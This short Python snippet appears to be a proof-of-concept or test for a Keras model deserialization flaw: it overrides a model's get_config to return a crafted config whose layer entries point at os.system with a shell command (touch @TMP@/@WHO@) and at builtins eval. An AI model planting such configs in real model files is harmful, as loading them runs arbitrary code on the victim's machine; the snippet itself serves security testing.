model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(1)])
evil = {"module": "os", "class_name": "system", "config": "touch @TMP@/@WHO@", "registered_name": "system"}
config = {"name": "m", "layers": [evil, {"class_name": "function", "config": "eval", "module": "builtins"}]}
type(model).get_config = lambda self: config
